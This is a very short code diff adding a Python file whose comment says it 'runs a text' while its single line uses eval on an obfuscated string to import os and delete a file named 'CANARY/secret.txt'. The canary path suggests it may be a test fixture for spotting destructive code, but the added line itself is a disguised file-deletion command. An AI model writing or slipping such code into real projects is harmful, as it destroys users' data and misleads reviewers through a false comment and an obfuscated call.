@@ -1,0 +1,2 @@
+# Runs a text.
+eval("__import__('os').remove('CANARY/secret.txt')")
